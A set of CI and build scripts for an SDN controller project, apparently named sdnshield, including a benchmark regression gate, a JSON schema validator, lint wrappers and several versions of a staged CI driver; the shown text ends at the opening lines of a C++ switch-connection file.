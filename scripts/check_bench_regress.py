#!/usr/bin/env python3
"""Perf-regression gate for the CI bench-smoke stage.

Schema validation (check_bench_json.py) catches benches that bitrot into
malformed output; this gate catches benches whose NUMBERS bitrot — the
20-60x class of regression a stray quadratic loop or a disabled cache
introduces — while staying green through ordinary CI noise. Every watched
metric carries its own tolerance band in scripts/bench_baselines.json:

  {"metrics": [
     {"id": "memo_hot_5",
      "source": "gbench",            # gbench | jsonl
      "file": "perm",                # which --<file> argument to read
      "select": {"name": "BM_EngineCheck_MemoHot/5"},   # row match
      "field": "real_time",          # measured value
      "baseline": 57.3,
      "max_ratio": 8.0},             # fail if measured > baseline*max_ratio
     {... "min_ratio": 8.0}          # fail if measured < baseline/min_ratio
  ]}

`source: gbench` reads google-benchmark --benchmark_format=json output and
matches rows by exact "name"; `source: jsonl` reads one-JSON-object-per-line
harness output and matches rows by every key/value pair in "select".
Latency-style metrics set max_ratio, throughput-style metrics set min_ratio
(either or both). Bands are deliberately wide — smoke runs use tiny
iteration counts on loaded runners — wide enough to never flake, narrow
enough that an order-of-magnitude regression cannot hide.

Usage:
  check_bench_regress.py --baselines scripts/bench_baselines.json \
      --perm build/bench_smoke_perm.json \
      --live build/bench_smoke_live.txt \
      --throughput build/bench_smoke_throughput.txt \
      --wire build/bench_smoke_wire.txt
"""

import argparse
import json
import sys


def load_gbench(path):
    """Rows of a google-benchmark JSON document, keyed by name."""
    with open(path, encoding="utf-8") as fh:
        document = json.load(fh)
    return list(document.get("benchmarks", []))


def load_jsonl(path):
    """The '{'-prefixed rows of a mixed harness output."""
    rows = []
    with open(path, encoding="utf-8") as fh:
        for lineno, line in enumerate(fh, 1):
            if not line.lstrip().startswith("{"):
                continue
            try:
                rows.append(json.loads(line))
            except json.JSONDecodeError as exc:
                sys.exit(f"check_bench_regress: {path}:{lineno}: bad JSON: {exc}")
    return rows


def match(row, select):
    return all(row.get(key) == value for key, value in select.items())


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--baselines", required=True)
    parser.add_argument("--perm", help="gbench JSON from bench_perm_engine")
    parser.add_argument("--live", help="JSONL from bench_reconciliation --live")
    parser.add_argument("--throughput", help="JSONL from bench_throughput")
    parser.add_argument("--wire", help="JSONL from bench_wire / sdnshield cbench")
    args = parser.parse_args()

    with open(args.baselines, encoding="utf-8") as fh:
        baselines = json.load(fh)

    files = {
        "perm": args.perm,
        "live": args.live,
        "throughput": args.throughput,
        "wire": args.wire,
    }
    cache = {}
    failures = []
    checked = 0
    for metric in baselines["metrics"]:
        metric_id = metric["id"]
        file_key = metric["file"]
        path = files.get(file_key)
        if path is None:
            sys.exit(f"check_bench_regress: metric '{metric_id}' needs --{file_key}")
        if file_key not in cache:
            loader = load_gbench if metric["source"] == "gbench" else load_jsonl
            cache[file_key] = loader(path)
        rows = [row for row in cache[file_key] if match(row, metric["select"])]
        if len(rows) != 1:
            failures.append(
                f"{metric_id}: {len(rows)} rows match {metric['select']} in "
                f"{path} (want exactly 1)"
            )
            continue
        value = rows[0].get(metric["field"])
        if not isinstance(value, (int, float)) or isinstance(value, bool):
            failures.append(f"{metric_id}: field '{metric['field']}' is {value!r}")
            continue
        baseline = metric["baseline"]
        checked += 1
        if "max_ratio" in metric and value > baseline * metric["max_ratio"]:
            failures.append(
                f"{metric_id}: {metric['field']} = {value:g} exceeds "
                f"{baseline:g} * {metric['max_ratio']:g} "
                f"(a {value / baseline:.1f}x regression)"
            )
        if "min_ratio" in metric and value < baseline / metric["min_ratio"]:
            failures.append(
                f"{metric_id}: {metric['field']} = {value:g} below "
                f"{baseline:g} / {metric['min_ratio']:g} "
                f"(a {baseline / max(value, 1e-12):.1f}x slowdown)"
            )

    if failures:
        for failure in failures:
            print(f"check_bench_regress: FAIL {failure}", file=sys.stderr)
        sys.exit(1)
    print(f"check_bench_regress: {checked} metric(s) within tolerance")


if __name__ == "__main__":
    main()
