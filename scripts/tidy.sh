#!/usr/bin/env bash
# clang-tidy over the concurrency-heavy directories (src/obs, src/isolation,
# src/market, src/core/engine, src/campaign — the subsystems that share
# state across threads or sit on the check/reconcile hot paths) with the
# bug-prone/performance/concurrency check families, warnings as errors.
# Same tool-presence gate as format.sh: skip cleanly when clang-tidy is
# absent unless REQUIRE_LINT=1.
#
# Usage: scripts/tidy.sh [build-dir]   (default: build)
set -euo pipefail
cd "$(dirname "$0")/.."

if ! command -v clang-tidy >/dev/null 2>&1; then
  if [[ "${REQUIRE_LINT:-0}" == "1" ]]; then
    echo "tidy.sh: clang-tidy not found and REQUIRE_LINT=1" >&2
    exit 1
  fi
  echo "tidy.sh: clang-tidy not found; skipping (REQUIRE_LINT=1 to fail)"
  exit 0
fi

BUILD_DIR="${1:-build}"
if [[ ! -f "$BUILD_DIR/compile_commands.json" ]]; then
  cmake -B "$BUILD_DIR" -S . -DCMAKE_EXPORT_COMPILE_COMMANDS=ON >/dev/null
fi

mapfile -t files < <(git ls-files 'src/obs/*.cpp' 'src/isolation/*.cpp' \
    'src/market/*.cpp' 'src/core/engine/*.cpp' 'src/campaign/*.cpp')
clang-tidy -p "$BUILD_DIR" \
    --checks='-*,bugprone-*,performance-*,concurrency-*' \
    --warnings-as-errors='*' \
    "${files[@]}"
echo "tidy.sh: ${#files[@]} files clean"
