#!/usr/bin/env python3
"""Validate benchmark output against scripts/bench_schema.json.

The CI bench-smoke stage exists to catch benchmarks that bitrot into
emitting garbage (empty output, missing counters, renamed fields) while
still exiting zero. This is a dependency-free validator for the JSON
Schema subset the schemas use: type, required, properties, items,
minItems, minimum, enum.

Usage:
  check_bench_json.py --schema scripts/bench_schema.json --key gbench FILE
  check_bench_json.py --schema ... --key degraded_mode_row --jsonl FILE

Plain mode parses FILE as one JSON document. --jsonl extracts the lines
that start with '{' (the machine-readable rows the harness benches print
beside their human tables), requires at least one, and validates each.
"""

import argparse
import json
import sys


def validate(instance, schema, path):
    """Return a list of error strings for `instance` against `schema`."""
    errors = []
    expected = schema.get("type")
    if expected is not None:
        type_map = {
            "object": dict,
            "array": list,
            "string": str,
            "boolean": bool,
        }
        if expected == "number":
            ok = isinstance(instance, (int, float)) and not isinstance(
                instance, bool
            )
        else:
            ok = isinstance(instance, type_map[expected])
        if not ok:
            errors.append(
                f"{path}: expected {expected}, got "
                f"{type(instance).__name__} ({instance!r})"
            )
            return errors

    if "enum" in schema and instance not in schema["enum"]:
        errors.append(f"{path}: {instance!r} not one of {schema['enum']}")

    if "minimum" in schema and isinstance(instance, (int, float)):
        if instance < schema["minimum"]:
            errors.append(f"{path}: {instance} below minimum {schema['minimum']}")

    if isinstance(instance, dict):
        for field in schema.get("required", []):
            if field not in instance:
                errors.append(f"{path}: missing required field '{field}'")
        for field, sub in schema.get("properties", {}).items():
            if field in instance:
                errors.extend(validate(instance[field], sub, f"{path}.{field}"))

    if isinstance(instance, list):
        if "minItems" in schema and len(instance) < schema["minItems"]:
            errors.append(
                f"{path}: {len(instance)} items, need >= {schema['minItems']}"
            )
        if "items" in schema:
            for i, item in enumerate(instance):
                errors.extend(validate(item, schema["items"], f"{path}[{i}]"))

    return errors


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--schema", required=True, help="bench_schema.json path")
    parser.add_argument("--key", required=True, help="schema key to apply")
    parser.add_argument(
        "--jsonl",
        action="store_true",
        help="treat input as mixed output with one JSON object per '{' line",
    )
    parser.add_argument("file", help="benchmark output to validate")
    args = parser.parse_args()

    with open(args.schema, encoding="utf-8") as fh:
        schemas = json.load(fh)
    if args.key not in schemas:
        sys.exit(f"check_bench_json: unknown schema key '{args.key}'")
    schema = schemas[args.key]

    with open(args.file, encoding="utf-8") as fh:
        text = fh.read()
    if not text.strip():
        sys.exit(f"check_bench_json: {args.file} is empty")

    instances = []
    if args.jsonl:
        for lineno, line in enumerate(text.splitlines(), 1):
            if not line.lstrip().startswith("{"):
                continue
            try:
                instances.append((f"{args.file}:{lineno}", json.loads(line)))
            except json.JSONDecodeError as exc:
                sys.exit(f"check_bench_json: {args.file}:{lineno}: bad JSON: {exc}")
        if not instances:
            sys.exit(f"check_bench_json: {args.file} has no JSON rows")
    else:
        try:
            instances.append((args.file, json.loads(text)))
        except json.JSONDecodeError as exc:
            sys.exit(f"check_bench_json: {args.file}: bad JSON: {exc}")

    errors = []
    for label, instance in instances:
        errors.extend(validate(instance, schema, label))
    if errors:
        for error in errors:
            print(f"check_bench_json: {error}", file=sys.stderr)
        sys.exit(1)
    print(
        f"check_bench_json: {args.file} OK "
        f"({len(instances)} document(s) against '{args.key}')"
    )


if __name__ == "__main__":
    main()
