#!/usr/bin/env bash
# clang-format gate over the C++ tree (.clang-format at the repo root).
#
#   scripts/format.sh          rewrite files in place
#   scripts/format.sh --check  fail on any formatting diff (CI stage 0)
#
# Containers without clang-format skip cleanly so local ci.sh runs stay
# usable; CI runners export REQUIRE_LINT=1 to turn a missing tool into a
# hard failure instead of a silent skip.
set -euo pipefail
cd "$(dirname "$0")/.."

if ! command -v clang-format >/dev/null 2>&1; then
  if [[ "${REQUIRE_LINT:-0}" == "1" ]]; then
    echo "format.sh: clang-format not found and REQUIRE_LINT=1" >&2
    exit 1
  fi
  echo "format.sh: clang-format not found; skipping (REQUIRE_LINT=1 to fail)"
  exit 0
fi

mapfile -t files < <(git ls-files \
    'src/**/*.h' 'src/**/*.cpp' 'src/*.h' 'src/*.cpp' \
    'tests/*.cpp' 'tests/*.h' 'bench/*.cpp' 'examples/*.cpp')
if [[ ${#files[@]} -eq 0 ]]; then
  echo "format.sh: no files matched" >&2
  exit 1
fi

if [[ "${1:-}" == "--check" ]]; then
  clang-format --dry-run -Werror "${files[@]}"
  echo "format.sh: ${#files[@]} files clean"
else
  clang-format -i "${files[@]}"
  echo "format.sh: formatted ${#files[@]} files"
fi
