#!/usr/bin/env bash
# CI driver: release tests, then the sanitizer matrix.
#
#   1. Release build, full ctest suite (tier-1 gate).
#   2. ASan+UBSan build, full ctest suite — any finding fails the run
#      (UBSan is non-recoverable via SDNSHIELD_SANITIZE wiring).
#   3. TSan build, the concurrency suites (engine_concurrency_test plus the
#      pre-existing threaded engine tests) — data races in the lock-free
#      check path fail the run.
#
# Usage: scripts/ci.sh [--skip-sanitizers]
set -euo pipefail

cd "$(dirname "$0")/.."
JOBS="$(nproc 2>/dev/null || echo 2)"

run_suite() {
  local dir="$1"
  shift
  cmake -B "$dir" -S . "$@" >/dev/null
  cmake --build "$dir" -j "$JOBS"
}

echo "=== [1/3] Release build + full test suite ==="
run_suite build
(cd build && ctest --output-on-failure -j "$JOBS")

if [[ "${1:-}" == "--skip-sanitizers" ]]; then
  echo "=== Sanitizer stages skipped ==="
  exit 0
fi

echo "=== [2/3] ASan+UBSan build + full test suite ==="
run_suite build-asan -DSDNSHIELD_SANITIZE=address,undefined \
    -DCMAKE_BUILD_TYPE=RelWithDebInfo
(cd build-asan && ASAN_OPTIONS=detect_leaks=0 ctest --output-on-failure -j "$JOBS")

echo "=== [3/3] TSan build + concurrency suites ==="
run_suite build-tsan -DSDNSHIELD_SANITIZE=thread \
    -DCMAKE_BUILD_TYPE=RelWithDebInfo
(cd build-tsan && ctest --output-on-failure -j "$JOBS" \
    -R 'EngineConcurrencyTest|ConcurrentChecksAreSafe')

echo "=== CI passed ==="
