#!/usr/bin/env bash
# CI driver: lint, release tests, bench smoke, then the sanitizer matrix.
#
#   0. Lint gate: clang-format --check + clang-tidy (bugprone/performance/
#      concurrency over src/obs and src/isolation). Skips cleanly when the
#      clang tools are absent; REQUIRE_LINT=1 (set on CI runners) turns a
#      missing tool into a failure.
#   1. Release build, full ctest suite (tier-1 gate).
#   2. Bench smoke: bench_perm_engine (google-benchmark JSON) and
#      bench_degraded_mode (JSONL rows) with tiny iteration counts, output
#      validated against scripts/bench_schema.json — a bench that bitrots
#      into empty or malformed output fails here, not on report day. The
#      checked-in artifacts (BENCH_perm_engine.json,
#      BENCH_reconciliation_live.json, BENCH_throughput_pressure.json) are
#      schema-validated too, and check_bench_regress.py gates the smoke
#      NUMBERS against scripts/bench_baselines.json tolerance bands.
#   3. Chaos-campaign smoke (DESIGN.md §13): the campaign binary runs twice
#      with a fixed seed; the two scorecards must be byte-identical (the
#      determinism contract), schema-valid, and exit 0 (every invariant
#      held and every attacker was contained). The checked-in
#      BENCH_campaign.json is schema-validated too.
#   4. Interleaving exploration: `ctest -L mck` — the deterministic model
#      checker suites (DESIGN.md §12), which exhaustively explore the
#      market's concurrency scenarios and replay the pinned counterexample.
#      Runs in the quick job too: it is the only gate that PROVES the
#      epoch-swap atomicity claims instead of stress-sampling them, and
#      --no-tests=error catches label bitrot selecting zero tests.
#   5. ASan+UBSan build, full ctest suite — any finding fails the run
#      (UBSan is non-recoverable via SDNSHIELD_SANITIZE wiring).
#   6. TSan build, `ctest -L concurrency` — the threaded engine suites, the
#      supervision suite and the obs registry/tracer suites all carry the
#      label; data races fail the run.
#   7. Fault-injection pass: `ctest -L faultinject` under ASan, exercising
#      every FaultInjector site (crash/hang/flood) with the allocator
#      poisoned — a contained fault that corrupts memory fails here even if
#      the counters look right.
#
# Usage: scripts/ci.sh [--skip-sanitizers]
#   --skip-sanitizers runs stages 0-4 only (the <10 min quick job).
#
# Every ctest invocation uses --no-tests=error: a build or label change
# that silently selects zero tests is a failure, not a green run.
set -euo pipefail

cd "$(dirname "$0")/.."
JOBS="$(nproc 2>/dev/null || echo 2)"

run_suite() {
  local dir="$1"
  shift
  cmake -B "$dir" -S . "$@" >/dev/null
  cmake --build "$dir" -j "$JOBS"
}

echo "=== [0/7] Lint gate (clang-format, clang-tidy, typed API errors) ==="
scripts/format.sh --check
scripts/tidy.sh build
# Typed-error gate: ApiResult/ApiResponse failures carry an ApiErrc, never a
# bare string, and callers branch on code() — never on error-message text.
if grep -rn --include='*.cpp' --include='*.h' -E '::failure\(\s*"' \
    src tests bench examples; then
  echo "lint: string-literal API failure; use ApiErrc codes" >&2
  exit 1
fi
if grep -rn --include='*.cpp' --include='*.h' -E \
    '\.error\(\)\.detail\.find\(|\.error\(\)\.toString\(\)\.find\(' \
    src tests; then
  echo "lint: matching on API error text; compare ApiErrc codes instead" >&2
  exit 1
fi

echo "=== [1/7] Release build + full test suite ==="
run_suite build
(cd build && ctest --output-on-failure --no-tests=error -j "$JOBS")

echo "=== [2/7] Bench smoke (schema-validated output) ==="
./build/bench/bench_perm_engine --benchmark_min_time=0.01 \
    --benchmark_format=json > build/bench_smoke_perm.json
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key gbench build/bench_smoke_perm.json
./build/bench/bench_degraded_mode --events 200 > build/bench_smoke_degraded.txt
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key degraded_mode_row --jsonl build/bench_smoke_degraded.txt
./build/bench/bench_throughput --pressure --duration-ms 150 \
    > build/bench_smoke_throughput.txt
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key throughput_row --jsonl build/bench_smoke_throughput.txt
./build/bench/bench_reconciliation --live > build/bench_smoke_live.txt
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key live_update_row --jsonl build/bench_smoke_live.txt
# The checked-in artifacts are validated too: a schema change that orphans
# the recorded numbers fails here, not on report day.
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key throughput_row --jsonl BENCH_throughput_pressure.json
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key live_update_row --jsonl BENCH_reconciliation_live.json
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key perm_engine_summary BENCH_perm_engine.json
# Perf-regression gate: the smoke numbers must stay inside the per-metric
# tolerance bands of scripts/bench_baselines.json (wide enough for smoke
# noise, narrow enough that an order-of-magnitude regression fails here).
python3 scripts/check_bench_regress.py --baselines scripts/bench_baselines.json \
    --perm build/bench_smoke_perm.json \
    --live build/bench_smoke_live.txt \
    --throughput build/bench_smoke_throughput.txt

echo "=== [3/7] Chaos-campaign smoke (fixed seed, determinism + invariants) ==="
./build/bench/campaign --seed 7 --out build/campaign_smoke_a.json
./build/bench/campaign --seed 7 --out build/campaign_smoke_b.json
# Same seed => byte-identical scorecard; any drift is a determinism bug.
cmp build/campaign_smoke_a.json build/campaign_smoke_b.json
python3 scripts/check_bench_json.py --schema scripts/campaign_schema.json \
    --key campaign_scorecard build/campaign_smoke_a.json
# The checked-in scorecard must stay schema-valid as well.
python3 scripts/check_bench_json.py --schema scripts/campaign_schema.json \
    --key campaign_scorecard BENCH_campaign.json

echo "=== [4/7] Interleaving exploration (ctest -L mck) ==="
(cd build && ctest --output-on-failure --no-tests=error -j "$JOBS" -L mck)

if [[ "${1:-}" == "--skip-sanitizers" ]]; then
  echo "=== Sanitizer stages skipped ==="
  exit 0
fi

echo "=== [5/7] ASan+UBSan build + full test suite ==="
run_suite build-asan -DSDNSHIELD_SANITIZE=address,undefined \
    -DCMAKE_BUILD_TYPE=RelWithDebInfo
(cd build-asan && ASAN_OPTIONS=detect_leaks=0 \
    ctest --output-on-failure --no-tests=error -j "$JOBS")

echo "=== [6/7] TSan build + concurrency suites (ctest -L concurrency) ==="
run_suite build-tsan -DSDNSHIELD_SANITIZE=thread \
    -DCMAKE_BUILD_TYPE=RelWithDebInfo
# Suppressions: cross-thread exception propagation via std::promise is
# synchronized inside the (uninstrumented) libstdc++ — see scripts/tsan.supp.
(cd build-tsan && TSAN_OPTIONS="suppressions=$PWD/../scripts/tsan.supp" \
    ctest --output-on-failure --no-tests=error -j "$JOBS" -L concurrency)

echo "=== [7/7] Fault-injection pass (ctest -L faultinject under ASan) ==="
(cd build-asan && ASAN_OPTIONS=detect_leaks=0 \
    ctest --output-on-failure --no-tests=error -j "$JOBS" -L faultinject)

echo "=== CI passed ==="
