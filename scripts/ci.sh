#!/usr/bin/env bash
# CI driver: release tests, then the sanitizer matrix.
#
#   1. Release build, full ctest suite (tier-1 gate).
#   2. ASan+UBSan build, full ctest suite — any finding fails the run
#      (UBSan is non-recoverable via SDNSHIELD_SANITIZE wiring).
#   3. TSan build, the concurrency suites (engine_concurrency_test, the
#      pre-existing threaded engine tests and the supervision suite — the
#      watchdog, the fault handlers and the non-blocking dispatcher all
#      cross threads) — data races fail the run.
#   4. Fault-injection pass: the supervision suite re-run standalone under
#      ASan, exercising every FaultInjector site (crash/hang/flood) with
#      the allocator poisoned — a contained fault that corrupts memory
#      fails here even if the counters look right.
#
# Usage: scripts/ci.sh [--skip-sanitizers]
set -euo pipefail

cd "$(dirname "$0")/.."
JOBS="$(nproc 2>/dev/null || echo 2)"

run_suite() {
  local dir="$1"
  shift
  cmake -B "$dir" -S . "$@" >/dev/null
  cmake --build "$dir" -j "$JOBS"
}

echo "=== [1/4] Release build + full test suite ==="
run_suite build
(cd build && ctest --output-on-failure -j "$JOBS")

if [[ "${1:-}" == "--skip-sanitizers" ]]; then
  echo "=== Sanitizer stages skipped ==="
  exit 0
fi

echo "=== [2/4] ASan+UBSan build + full test suite ==="
run_suite build-asan -DSDNSHIELD_SANITIZE=address,undefined \
    -DCMAKE_BUILD_TYPE=RelWithDebInfo
(cd build-asan && ASAN_OPTIONS=detect_leaks=0 ctest --output-on-failure -j "$JOBS")

echo "=== [3/4] TSan build + concurrency suites ==="
run_suite build-tsan -DSDNSHIELD_SANITIZE=thread \
    -DCMAKE_BUILD_TYPE=RelWithDebInfo
# Suppressions: cross-thread exception propagation via std::promise is
# synchronized inside the (uninstrumented) libstdc++ — see scripts/tsan.supp.
(cd build-tsan && TSAN_OPTIONS="suppressions=$PWD/../scripts/tsan.supp" \
    ctest --output-on-failure -j "$JOBS" \
    -R 'EngineConcurrencyTest|ConcurrentChecksAreSafe|SupervisionTest')

echo "=== [4/4] Fault-injection pass (supervision suite under ASan) ==="
ASAN_OPTIONS=detect_leaks=0 ./build-asan/tests/supervision_test

echo "=== CI passed ==="
