#!/usr/bin/env bash
# CI driver: lint, release tests, bench smoke, then the sanitizer matrix.
#
#   0. Lint gate: clang-format --check + clang-tidy (bugprone/performance/
#      concurrency over src/obs and src/isolation). Skips cleanly when the
#      clang tools are absent; REQUIRE_LINT=1 (set on CI runners) turns a
#      missing tool into a failure.
#   1. Release build, full ctest suite (tier-1 gate).
#   2. Bench smoke: bench_perm_engine (google-benchmark JSON) and
#      bench_degraded_mode (JSONL rows) with tiny iteration counts, output
#      validated against scripts/bench_schema.json — a bench that bitrots
#      into empty or malformed output fails here, not on report day. The
#      checked-in artifacts (BENCH_perm_engine.json,
#      BENCH_reconciliation_live.json, BENCH_throughput_pressure.json) are
#      schema-validated too, and check_bench_regress.py gates the smoke
#      NUMBERS against scripts/bench_baselines.json tolerance bands.
#   3. Wire loopback TCP smoke (DESIGN.md §15): bench_wire's framing row,
#      then a real `sdnshield serve` process driven by `sdnshield cbench`
#      over 127.0.0.1 — the full epoll frontend, handshake, and closed-loop
#      flow-mod path in separate processes — once unsharded and once with
#      --shards 2 (two shard loops + two io reactors, DESIGN.md §16). Rows
#      are schema-validated (wire_row) and regression-gated; the checked-in
#      BENCH_wire.json is schema-validated too.
#   4. Chaos-campaign smoke (DESIGN.md §13): the campaign binary runs twice
#      with a fixed seed; the two scorecards must be byte-identical (the
#      determinism contract), schema-valid, and exit 0 (every invariant
#      held and every attacker was contained). A third run on --shards 4
#      must reproduce the same bytes (the shard count is an execution
#      detail, not an outcome). The checked-in BENCH_campaign.json is
#      schema-validated too.
#   5. Interleaving exploration: `ctest -L mck` — the deterministic model
#      checker suites (DESIGN.md §12), which exhaustively explore the
#      market's concurrency scenarios and replay the pinned counterexample.
#      Runs in the quick job too: it is the only gate that PROVES the
#      epoch-swap atomicity claims instead of stress-sampling them, and
#      --no-tests=error catches label bitrot selecting zero tests.
#   6. ASan+UBSan build, full ctest suite — any finding fails the run
#      (UBSan is non-recoverable via SDNSHIELD_SANITIZE wiring).
#   7. TSan build, `ctest -L concurrency` — the threaded engine suites, the
#      supervision suite, the wire reactor/differential suites and the obs
#      registry/tracer suites all carry the label; data races fail the run.
#   8. Fault-injection pass: `ctest -L faultinject` under ASan, exercising
#      every FaultInjector site (crash/hang/flood) with the allocator
#      poisoned — a contained fault that corrupts memory fails here even if
#      the counters look right.
#
# Usage: scripts/ci.sh [--skip-sanitizers]
#   --skip-sanitizers runs stages 0-5 only (the <10 min quick job).
#
# Every ctest invocation uses --no-tests=error: a build or label change
# that silently selects zero tests is a failure, not a green run.
set -euo pipefail

cd "$(dirname "$0")/.."
JOBS="$(nproc 2>/dev/null || echo 2)"

run_suite() {
  local dir="$1"
  shift
  cmake -B "$dir" -S . "$@" >/dev/null
  cmake --build "$dir" -j "$JOBS"
}

echo "=== [0/8] Lint gate (clang-format, clang-tidy, typed API errors) ==="
scripts/format.sh --check
scripts/tidy.sh build
# Typed-error gate: ApiResult/ApiResponse failures carry an ApiErrc, never a
# bare string, and callers branch on code() — never on error-message text.
if grep -rn --include='*.cpp' --include='*.h' -E '::failure\(\s*"' \
    src tests bench examples; then
  echo "lint: string-literal API failure; use ApiErrc codes" >&2
  exit 1
fi
if grep -rn --include='*.cpp' --include='*.h' -E \
    '\.error\(\)\.detail\.find\(|\.error\(\)\.toString\(\)\.find\(' \
    src tests; then
  echo "lint: matching on API error text; compare ApiErrc codes instead" >&2
  exit 1
fi

echo "=== [1/8] Release build + full test suite ==="
run_suite build
(cd build && ctest --output-on-failure --no-tests=error -j "$JOBS")

echo "=== [2/8] Bench smoke (schema-validated output) ==="
./build/bench/bench_perm_engine --benchmark_min_time=0.01 \
    --benchmark_format=json > build/bench_smoke_perm.json
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key gbench build/bench_smoke_perm.json
./build/bench/bench_degraded_mode --events 200 > build/bench_smoke_degraded.txt
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key degraded_mode_row --jsonl build/bench_smoke_degraded.txt
./build/bench/bench_throughput --pressure --duration-ms 150 \
    > build/bench_smoke_throughput.txt
# Shards mode rides the same smoke file: its rows share the throughput_row
# schema, and the regress gate below pins the shards=1 rate.
./build/bench/bench_throughput --shards --duration-ms 150 \
    >> build/bench_smoke_throughput.txt
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key throughput_row --jsonl build/bench_smoke_throughput.txt
./build/bench/bench_reconciliation --live > build/bench_smoke_live.txt
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key live_update_row --jsonl build/bench_smoke_live.txt
# The checked-in artifacts are validated too: a schema change that orphans
# the recorded numbers fails here, not on report day.
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key throughput_row --jsonl BENCH_throughput_pressure.json
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key live_update_row --jsonl BENCH_reconciliation_live.json
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key perm_engine_summary BENCH_perm_engine.json

echo "=== [3/8] Wire loopback TCP smoke (serve + cbench over 127.0.0.1) ==="
# Framing throughput row (pure CPU, no sockets) starts the smoke file.
./build/bench/bench_wire --framing --duration-ms 200 > build/bench_smoke_wire.txt
# Then the real thing: `sdnshield serve` in its own process, driven by
# `sdnshield cbench` over loopback TCP. --max-seconds bounds a wedged server;
# the port file hands the ephemeral port to the client.
rm -f build/wire_port
./build/src/sdnshield serve --port 0 --port-file build/wire_port \
    --max-seconds 60 >/dev/null &
WIRE_SERVE_PID=$!
for _ in $(seq 100); do [[ -s build/wire_port ]] && break; sleep 0.1; done
[[ -s build/wire_port ]] || { echo "wire smoke: serve never bound" >&2; exit 1; }
./build/src/sdnshield cbench --port "$(cat build/wire_port)" \
    --connections 8 --rounds 5 --json build/bench_smoke_wire.txt
kill "$WIRE_SERVE_PID" 2>/dev/null || true
wait "$WIRE_SERVE_PID" 2>/dev/null || true
# Same smoke against a sharded server: two shard loops, two io reactors,
# sessions round-robined across them. Rows go to their own file so the
# regress gate keeps reading exactly one unsharded wire row.
rm -f build/wire_port_shards
./build/src/sdnshield serve --port 0 --port-file build/wire_port_shards \
    --shards 2 --max-seconds 60 >/dev/null &
WIRE_SHARDS_PID=$!
for _ in $(seq 100); do [[ -s build/wire_port_shards ]] && break; sleep 0.1; done
[[ -s build/wire_port_shards ]] || {
  echo "wire smoke: sharded serve never bound" >&2; exit 1; }
./build/src/sdnshield cbench --port "$(cat build/wire_port_shards)" \
    --connections 8 --rounds 5 --json build/bench_smoke_wire_shards.txt
kill "$WIRE_SHARDS_PID" 2>/dev/null || true
wait "$WIRE_SHARDS_PID" 2>/dev/null || true
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key wire_row --jsonl build/bench_smoke_wire.txt
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key wire_row --jsonl build/bench_smoke_wire_shards.txt
# The checked-in wire numbers stay schema-valid too.
python3 scripts/check_bench_json.py --schema scripts/bench_schema.json \
    --key wire_row --jsonl BENCH_wire.json
# Perf-regression gate (stages 2+3 smoke numbers): every metric must stay
# inside the per-metric tolerance bands of scripts/bench_baselines.json
# (wide enough for smoke noise, narrow enough that an order-of-magnitude
# regression fails here).
python3 scripts/check_bench_regress.py --baselines scripts/bench_baselines.json \
    --perm build/bench_smoke_perm.json \
    --live build/bench_smoke_live.txt \
    --throughput build/bench_smoke_throughput.txt \
    --wire build/bench_smoke_wire.txt

echo "=== [4/8] Chaos-campaign smoke (fixed seed, determinism + invariants) ==="
./build/bench/campaign --seed 7 --out build/campaign_smoke_a.json
./build/bench/campaign --seed 7 --out build/campaign_smoke_b.json
# Same seed => byte-identical scorecard; any drift is a determinism bug.
cmp build/campaign_smoke_a.json build/campaign_smoke_b.json
# The shard count is an execution detail, not an outcome: the same seed on
# four shard loops must reproduce the single-loop scorecard byte-for-byte.
./build/bench/campaign --seed 7 --shards 4 \
    --out build/campaign_smoke_shards.json
cmp build/campaign_smoke_a.json build/campaign_smoke_shards.json
python3 scripts/check_bench_json.py --schema scripts/campaign_schema.json \
    --key campaign_scorecard build/campaign_smoke_a.json
# The checked-in scorecard must stay schema-valid as well.
python3 scripts/check_bench_json.py --schema scripts/campaign_schema.json \
    --key campaign_scorecard BENCH_campaign.json

echo "=== [5/8] Interleaving exploration (ctest -L mck) ==="
(cd build && ctest --output-on-failure --no-tests=error -j "$JOBS" -L mck)

if [[ "${1:-}" == "--skip-sanitizers" ]]; then
  echo "=== Sanitizer stages skipped ==="
  exit 0
fi

echo "=== [6/8] ASan+UBSan build + full test suite ==="
run_suite build-asan -DSDNSHIELD_SANITIZE=address,undefined \
    -DCMAKE_BUILD_TYPE=RelWithDebInfo
(cd build-asan && ASAN_OPTIONS=detect_leaks=0 \
    ctest --output-on-failure --no-tests=error -j "$JOBS")

echo "=== [7/8] TSan build + concurrency suites (ctest -L concurrency) ==="
run_suite build-tsan -DSDNSHIELD_SANITIZE=thread \
    -DCMAKE_BUILD_TYPE=RelWithDebInfo
# Suppressions: cross-thread exception propagation via std::promise is
# synchronized inside the (uninstrumented) libstdc++ — see scripts/tsan.supp.
(cd build-tsan && TSAN_OPTIONS="suppressions=$PWD/../scripts/tsan.supp" \
    ctest --output-on-failure --no-tests=error -j "$JOBS" -L concurrency)

echo "=== [8/8] Fault-injection pass (ctest -L faultinject under ASan) ==="
(cd build-asan && ASAN_OPTIONS=detect_leaks=0 \
    ctest --output-on-failure --no-tests=error -j "$JOBS" -L faultinject)

echo "=== CI passed ==="
