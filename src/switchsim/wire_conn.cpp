#include "switchsim/wire_conn.h"

namespace sdnshield::sim {

namespace wire = of::wire;

WireSwitchConn::WireSwitchConn(std::shared_ptr<SimSwitch> sw,
                               ctrl::Controller* controller)
    : sw_(std::move(sw)) {
  of::DatapathId dpid = sw_->dpid();
